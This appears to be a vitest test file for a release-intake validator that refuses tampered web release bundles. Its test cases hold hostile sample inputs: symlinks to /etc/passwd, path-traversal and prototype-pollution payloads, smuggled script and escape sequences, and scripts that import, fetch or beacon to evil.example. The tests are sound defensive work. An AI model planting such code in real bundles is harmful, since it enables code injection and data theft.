import { execFileSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { builtProject } from '@burhan/testing/composed-project';
import type { FixtureProject } from '@burhan/testing/fixture-project';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { copyWithoutTests, nameFiles, writeRelease } from '../building/build-release.ts';
import { liveVersion, readLiveReleases } from '../state/live-releases.ts';
import { type Release, releaseFolder } from '../state/release.ts';
import { takeRelease } from './take-release.ts';

let project: FixtureProject;
let built: string;
let from: string;
let distDir: string;
beforeAll(async () => {
  project = await builtProject();
  const version = liveVersion(await readLiveReleases(project.distDir), 'remote-public') ?? '';
  built = releaseFolder(project.distDir, 'remote-public', version);
  from = path.join(project.root, 'elsewhere');
  distDir = path.join(project.root, 'target');
  // As a release has them that is built from the contract.
  const contract = path.join(import.meta.dirname, '../../shared/contract');
  await copyWithoutTests(contract, path.join(built, 'server/contract'));
});
beforeEach(async () => {
  rmSync(from, { recursive: true, force: true });
  rmSync(distDir, { recursive: true, force: true });
  cpSync(built, from, { recursive: true });
  await describeAnew();
});
afterAll(() => project.remove());

const write = (file: string, text: string) => {
  mkdirSync(path.dirname(path.join(from, file)), { recursive: true });
  writeFileSync(path.join(from, file), text);
};
const readJson = (): Release => JSON.parse(readFileSync(path.join(from, 'release.json'), 'utf8'));
const isCompressed = (file: string) => /\.(br|gz)$/.test(file);

/** What somebody does who changes files and makes everything agree again. */
async function describeAnew(change: (release: Record<string, unknown>) => void = () => {}): Promise<void> {
  for (const file of readdirSync(from, { recursive: true, encoding: 'utf8' }))
    if (isCompressed(file)) rmSync(path.join(from, file));
  const { version, builtAt, commit, files, ...described } = readJson();
  change(described);
  await writeRelease(from, { ...described, ...(await nameFiles(from, described)), builtAt, commit });
}

const take = () => takeRelease(from, distDir, 'remote-public');
const left = () =>
  existsSync(distDir)
    ? readdirSync(distDir, { recursive: true }).filter((name) => name !== 'remote-public')
    : [];

it('takes a release as it was built, compressed anew, and the same one once', async () => {
  write('remoteEntry.js.br', 'something else');
  const { release, isNew } = await take();
  const folder = releaseFolder(distDir, 'remote-public', release.version);
  const isThere = (file: string) => existsSync(path.join(folder, file));

  expect(isNew).toBe(true);
  expect(JSON.parse(readFileSync(path.join(folder, 'release.json'), 'utf8'))).toEqual(readJson());
  expect(Object.keys(release.files ?? {}).every(isThere)).toBe(true);
  expect(
    isThere('remoteEntry.js.br') && readFileSync(path.join(folder, 'remoteEntry.js.br'), 'utf8'),
  ).not.toBe('something else');
  expect((await take()).isNew).toBe(false);
});

it('keeps which migrations a release needs, which its version does not cover', async () => {
  const { version } = readJson();
  write('release.json', JSON.stringify({ ...readJson(), newestMigration: '20261101000100_access' }));

  expect((await take()).release).toMatchObject({ version, newestMigration: '20261101000100_access' });
});

describe('files that are not those of the release are refused by name', () => {
  it.each<[string, () => void, RegExp]>([
    ['changed', () => write('remoteEntry.js', 'export {};'), /^remoteEntry\.js is not as it was built/],
    ['missing', () => rmSync(path.join(from, 'remoteEntry.js')), /^remoteEntry\.js is missing/],
    ['too many', () => write('assets/more.js', ''), /^assets\/more\.js is not named by release\.json/],
    ['no release.json', () => rmSync(path.join(from, 'release.json')), /^release\.json is missing/],
    ['hidden', () => write('.env', ''), /^"\.env": rename it/],
    ['of another alphabet', () => write('assets/a b.js', ''), /^"assets\/a b\.js": rename it/],
    ['large', () => write('assets/large.js', 'x'.repeat(9_000_000)), /^assets\/large\.js is larger than/],
    [
      'a link',
      () => symlinkSync('/etc/passwd', path.join(from, 'assets/link.js')),
      /^assets\/link\.js is a link/,
    ],
    ['a linked folder', () => symlinkSync('/etc', path.join(from, 'etc')), /^etc is a link/],
    [
      'a pipe',
      () => execFileSync('mkfifo', [path.join(from, 'pipe')]),
      /^pipe (?:is no|cannot be read as a) plain file/,
    ],
    [
      'many',
      () => {
        for (let i = 0; i < 2001; i++) write(`assets/${i}.js`, '');
      },
      /there are more than 2000 files/,
    ],
  ])('%s', async (_name, change, message) => {
    change();
    await expect(take()).rejects.toThrow(message);
    expect(left()).toEqual([]);
  });
});

describe('a release.json that says what none may say is refused', () => {
  it.each<[string, Record<string, unknown>, RegExp]>([
    ['another part', { part: 'remote-admin' }, /part has to be one of remote-public/],
    ['a version that leaves the folder', { version: '../../../x' }, /version has to be 12 hex/],
    ['another version', { version: '0123456789ab' }, /says version 0123456789ab, its files are [0-9a-f]{12}/],
    ['a time with more in it', { builtAt: '2026-01-01T00:00:00.000Z<script>' }, /builtAt has to be a time/],
    ['a commit with more in it', { commit: 'abcdef1\n\u001b[2J' }, /commit has to be a commit/],
    ['a migration elsewhere', { newestMigration: '../20261101000100_access' }, /newestMigration has to be/],
    [
      'an entry elsewhere',
      { entry: 'https://evil.example/remoteEntry.js' },
      /entry has to be one of remoteEntry\.js/,
    ],
    ['a field of its own', { onload: 'x' }, /has "onload", which no release has/],
    ['a package that is not shared', { singletons: { jquery: '3.0.0' } }, /singletons, key "jquery",/],
    ['a range as a version', { singletons: { react: '^19' } }, /singletons\."react" has to be a version/],
    ['a contract of no number', { contractVersion: '4' }, /contractVersion has to be a whole number/],
    [
      'contracts without end',
      { speaks: Array.from({ length: 101 }, () => 4) },
      /speaks has to be a list of at most 100/,
    ],
    ['a file that leaves the folder', { files: { '../x.js': '0'.repeat(64) } }, /files, key "\.\.\/x\.js",/],
    ['modules as a list', { modules: [] }, /modules has to be an object/],
    ['no files', { files: undefined }, /files has to be there/],
    [
      'a module file that leaves the folder',
      { modules: { a: { file: '/etc/passwd', css: [], assets: [], imports: [], dynamicImports: [] } } },
      /modules\."a"\.file has to be a path inside/,
    ],
    [
      'a script elsewhere',
      {
        composition: {
          pages: {},
          islands: { a: { kind: 'react', scripts: ['//evil.example/x.js'], styles: [] } },
        },
      },
      /scripts\[0\] has to be a path inside/,
    ],
    [
      'another kind of island',
      { composition: { pages: {}, islands: { a: { kind: 'inline', scripts: [], styles: [] } } } },
      /kind has to be one of plain, react/,
    ],
    [
      'a table that visitors do not read',
      { composition: { pages: { home: { styles: [], tables: [{ table: 'history' }] } }, islands: {} } },
      /table has to be one of publications/,
    ],
  ])('%s', async (_name, fields, message) => {
    write('release.json', JSON.stringify({ ...readJson(), ...fields }));
    await expect(take()).rejects.toThrow(message);
    expect(left()).toEqual([]);
  });

  it.each([
    ['no JSON', '{', /^release\.json is no JSON/],
    ['no object', '[]', /it has to be an object/],
    ['too long', `"${'x'.repeat(1_100_000)}"`, /it has to be at most/],
    ['a prototype', '{"__proto__":{"part":"host"}}', /has "__proto__", which no release has/],
  ])('%s', async (_name, text, message) => {
    write('release.json', text);
    await expect(take()).rejects.toThrow(message);
    expect(left()).toEqual([]);
  });

  it.each<[string, (release: Record<string, unknown>) => void, RegExp]>([
    [
      'a page whose style is not there',
      ({ composition }) => {
        (composition as { pages: Record<string, unknown> }).pages.home = {
          styles: ['assets/no.css'],
          tables: [],
        };
      },
      /^server\/assets\/no\.css, which composition\.pages\.home .* is missing/,
    ],
    [
      'a contract without its types',
      (release) => {
        release.speaks = [4, 99];
      },
      /^server\/contract\/99\/modules\.ts, which speaks/,
    ],
    [
      'a module that it does not have',
      (release) => {
        release.exposes = ['src/none.ts'];
      },
      /exposes names src\/none\.ts/,
    ],
  ])('%s, although all else agrees', async (_name, change, message) => {
    await describeAnew(change);
    await expect(take()).rejects.toThrow(message);
    expect(left()).toEqual([]);
  });
});

describe('what would not run on the site is refused, although all else agrees', () => {
  it.each<[string, string, string, RegExp]>([
    ['eval', 'assets/a.js', 'eval("1")', /calls eval/],
    ['eval of the window', 'assets/a.js', 'window["eval"]("1")', /calls eval/],
    ['eval in the open', 'assets/a.js', '(0, eval)("1")', /calls eval/],
    ['a function of a text', 'assets/a.js', 'new Function("return 1")', /calls Function/],
    ['the same without new', 'server/a.mjs', 'Function("return this")()', /calls Function/],
    ['a text that is run later', 'assets/a.js', 'setTimeout("alert(1)", 5)', /gives setTimeout a text/],
    ['a script of another origin', 'assets/a.js', 'import("https://evil.example/x.js")', /imports "https:/],
    ['the same at once', 'assets/a.js', 'import "//evil.example/x.js"', /imports "\/\/evil/],
    ['the same in parts', 'assets/a.js', 'import("https://evil.example/" + a)', /imports "https:/],
    ['a script as an address', 'assets/a.js', 'import("data:text/javascript,1")', /imports "data:/],
    ['a package', 'assets/a.js', 'import "react"', /imports "react"/],
    ['a package on the server', 'server/a.mjs', 'import "react"', /imports "react"/],
    ['a file that is not there', 'assets/a.js', 'import "./b.js"', /imports "\.\/b\.js"/],
    [
      'a file outside of the folder',
      'server/a.mjs',
      'export * from "../../../x.mjs"',
      /imports "\.\.\/\.\.\//,
    ],
    ['a request to another origin', 'assets/a.js', 'fetch("https://evil.example")', /fetches "https:/],
    ['a socket', 'assets/a.js', 'new WebSocket("wss://evil.example")', /fetches "wss:/],
    ['a beacon', 'assets/a.js', 'navigator.sendBeacon("//evil.example", "x")', /fetches/],
    ['an older request', 'assets/a.js', 'x.open("GET", "https://evil.example")', /fetches/],
    ['no JavaScript', 'assets/a.js', 'const = 1', /is no JavaScript/],
    [
      'a React of its own',
      'assets/a.js',
      'e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE=H',
      /has a React of its own/,
    ],
    ['a page', 'index.html', '<script>alert(1)</script>', /index\.html: a release has scripts, styles/],
    ['a style of another origin', 'assets/a.css', '@import "https://evil.example/a.css";', /loads "https:/],
    [
      'a font of another origin',
      'assets/a.css',
      '@font-face{src:url(//evil.example/a.woff2)}',
      /loads "\/\/evil/,
    ],
    [
      'a picture that is not there',
      'assets/a.css',
      'a{background:url("../../x.png")}',
      /loads "\.\.\/\.\.\/x\.png"/,
    ],
    [
      'a drawing with a script',
      'assets/a.svg',
      '<svg><script>alert(1)</script></svg>',
      /assets\/a\.svg has a script/,
    ],
    ['a drawing with a handler', 'assets/a.svg', '<svg onload="alert(1)"/>', /has a script/],
    [
      'declarations with more beside them',
      'server/contract/4/x.js.map',
      '{}',
      /a release has scripts, styles/,
    ],
  ])('%s', async (_name, file, text, message) => {
    write(file, text);
    await describeAnew();
    const refusal = await take().catch(String);
    expect(refusal).toMatch(message);
    expect(refusal).toContain(file);
    expect(left()).toEqual([]);
  });
});

it('takes remotes alone', async () => {
  await expect(takeRelease(from, distDir, 'host')).rejects.toThrow('The host is built here alone');
});

it('takes scripts that only mention other origins', async () => {
  write(
    'assets/a.js',
    'export const link = "https://doi.org/10.1"; fetch("/rest/v1/x"); setTimeout(() => {}, 1);',
  );
  await describeAnew();
  await expect(take()).resolves.toMatchObject({ isNew: true });
});
